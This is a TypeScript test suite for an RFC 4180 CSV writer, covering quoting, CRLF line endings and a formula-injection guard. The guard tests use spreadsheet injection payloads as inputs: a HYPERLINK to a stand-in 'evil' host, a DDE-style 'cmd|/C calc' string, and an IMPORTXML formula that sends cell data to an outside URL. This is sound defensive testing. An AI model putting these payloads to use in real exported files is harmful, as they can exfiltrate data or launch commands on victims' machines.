import { toCsv } from './csv';

/** A strict RFC 4180 reader: the test's own, so the writer is checked against the format. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i += 1;
      } else {
        cell += ch;
        i += 1;
      }
    } else if (ch === '"') {
      if (cell !== '') throw new Error(`quote inside an unquoted cell at ${i}`);
      quoted = true;
      i += 1;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      i += 1;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i += 2;
    } else if (ch === '\r' || ch === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += ch;
      i += 1;
    }
  }
  if (quoted) throw new Error('unterminated quote');
  if (cell !== '' || row.length > 0) throw new Error('last line lacks its CRLF');
  return rows;
}

describe('toCsv (RFC 4180)', () => {
  it('writes the header then one CRLF-terminated line per row', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x', 1],
          ['y', 2],
        ],
      ),
    ).toBe('a,b\r\nx,1\r\ny,2\r\n');
  });

  it('writes only the header line when there are no rows', () => {
    expect(toCsv(['device', 'risk'], [])).toBe('device,risk\r\n');
  });

  it('quotes a cell holding a comma, a quote (doubled) or a line break, and nothing else', () => {
    const out = toCsv(
      ['h'],
      [['Smith, John'], ['say "hi"'], ['two\nlines'], ['cr\r\nlf'], ['plain text']],
    );
    expect(out).toBe(
      'h\r\n"Smith, John"\r\n"say ""hi"""\r\n"two\nlines"\r\n"cr\r\nlf"\r\nplain text\r\n',
    );
  });

  it('writes null and undefined as empty cells, numbers and booleans as text, dates as ISO', () => {
    const at = new Date('2026-12-04T10:20:30.000Z');
    expect(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [[null, undefined, 0, 42.5, false, at]])).toBe(
      'a,b,c,d,e,f\r\n,,0,42.5,false,2026-12-04T10:20:30.000Z\r\n',
    );
  });

  it('reads back cell for cell with a strict reader, whatever the text holds', () => {
    const rows = [
      ['ACME-DC1', 'high', 'missing failed', 'Windows Server 2022, Datacenter'],
      ['quote "inside"', '', 'a,b,"c"', 'line\r\nbreak'],
      ['ünïcødé ✓', 'tab\tinside', ' leading space', 'trailing space '],
    ];
    expect(parseCsv(toCsv(['w', 'x', 'y', 'z'], rows))).toEqual([['w', 'x', 'y', 'z'], ...rows]);
  });

  describe('formula-injection guard', () => {
    it.each([
      ['=HYPERLINK("http://evil","click")', `"'=HYPERLINK(""http://evil"",""click"")"`],
      ['=1+1', "'=1+1"],
      ['+cmd|/C calc!A0', "'+cmd|/C calc!A0"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
    ])('prefixes %j with an apostrophe', (value, written) => {
      expect(toCsv(['name'], [[value]])).toBe(`name\r\n${written}\r\n`);
    });

    it('keeps the guarded text readable: the reader gets the apostrophe and the whole value', () => {
      const evil = '=IMPORTXML(CONCAT("http://x/?", A1), "//a")';
      expect(parseCsv(toCsv(['name'], [[evil]]))).toEqual([['name'], [`'${evil}`]]);
    });

    it('leaves a sign inside the text, and numbers (a negative one too), as they are', () => {
      expect(toCsv(['a', 'b', 'c', 'd'], [['a=b', 'KB-5034441', -3, 'x@y']])).toBe(
        'a,b,c,d\r\na=b,KB-5034441,-3,x@y\r\n',
      );
    });

    it('guards header cells too', () => {
      expect(toCsv(['=x', 'ok'], [])).toBe("'=x,ok\r\n");
    });
  });
});
